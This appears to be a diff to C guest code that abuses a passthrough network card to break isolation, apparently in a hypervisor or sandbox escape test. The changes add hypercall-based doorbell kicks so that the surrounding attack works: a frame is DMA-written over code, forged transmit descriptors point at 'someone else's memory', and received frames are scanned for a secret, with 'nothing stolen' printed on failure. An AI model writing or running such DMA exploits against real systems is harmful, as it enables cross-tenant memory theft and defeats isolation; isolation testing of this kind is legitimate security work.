@@ -34,6 +34,20 @@ static long hypercall(long nr, long a0, long a1)
 	return r;
 }
 
+/* Passthrough doorbells: this code is the driver, so it wakes a sleeping
+ * NIC itself (NET_KICK), as the SDK does. */
+static void tx_kick(struct nic_txq *tx)
+{
+	if (nic_txq_ring(tx))
+		hypercall(OPSUB_HC_NET_KICK, 0, 0);
+}
+
+static void rx_kick(struct nic_rxq *rx)
+{
+	if (nic_rxq_ring(rx))
+		hypercall(OPSUB_HC_NET_KICK, 0, 0);
+}
+
 static int look_for_secret(const uint8_t *f, uint32_t len)
 {
 	for (uint32_t i = 0; i + 7 <= len; i++)
@@ -67,7 +81,7 @@ static void dma_over_code(struct nic_txq *tx, struct nic_rxq *rx, uint64_t base,
 	memcpy(frame, mac_code, 6);
 	frame[12] = 0x88, frame[13] = 0xb5;
 	nic_txq_post(tx, base + (uint64_t)(uintptr_t)frame, 60, NIC_TXD_CMD_EOP, 0);
-	nic_txq_kick(tx);
+	tx_kick(tx);
 	uint64_t end = opsub_clock_ns() + 1000000000ull;
 	struct nic_rx_desc d;
 	uint32_t index;
@@ -96,15 +110,17 @@ static int passthrough(const struct opsub_net_info *info, uint64_t target)
 	struct nic_rxq rx;
 	uint64_t base = info->dev_base;
 	uint8_t *bufs = mem + 2 * (size_t)size * 16;
+	/* no doorbell eventfd in guest code (-1): the kicks above wake the
+	 * NIC, and the set-up below is followed by one of them */
 	nic_reg_write32(&regs->control, 0);
-	nic_txq_start(&tx, regs, (struct nic_tx_desc *)mem, base + (uint64_t)(uintptr_t)mem, size);
+	nic_txq_start(&tx, regs, (struct nic_tx_desc *)mem, base + (uint64_t)(uintptr_t)mem, size, -1);
 	nic_rxq_start(&rx, regs, (struct nic_rx_desc *)(mem + (size_t)size * 16),
-	              base + (uint64_t)(uintptr_t)mem + (uint64_t)size * 16, size);
+	              base + (uint64_t)(uintptr_t)mem + (uint64_t)size * 16, size, -1);
 	if (code)   /* first, so the first frame lands on the code */
 		nic_rxq_post(&rx, base + (uint64_t)(uintptr_t)code, 2048);
 	for (unsigned i = 0; i < 64; i++)
 		nic_rxq_post(&rx, base + (uint64_t)(uintptr_t)(bufs + i * 2048), 2048);
-	nic_rxq_kick(&rx);
+	rx_kick(&rx);
 	if (code)
 		dma_over_code(&tx, &rx, base, bufs + 64 * 2048, code);
 	/* the forged descriptor: someone else's memory, read again every
@@ -114,7 +130,7 @@ static int passthrough(const struct opsub_net_info *info, uint64_t target)
 		if (opsub_clock_ns() >= next) {
 			nic_txq_reap(&tx);
 			nic_txq_post(&tx, target - 12, 128, NIC_TXD_CMD_EOP, 0);
-			nic_txq_kick(&tx);
+			tx_kick(&tx);
 			next = opsub_clock_ns() + 50000000ull;
 		}
 		struct nic_rx_desc d;
@@ -123,7 +139,7 @@ static int passthrough(const struct opsub_net_info *info, uint64_t target)
 			if (look_for_secret(mem + (d.addr - base - (uint64_t)(uintptr_t)mem), (uint16_t)d.writeback))
 				return 1;
 			nic_rxq_post(&rx, d.addr, 2048);
-			nic_rxq_kick(&rx);
+			rx_kick(&rx);
 		}
 	}
 	printf("nothing stolen\n");
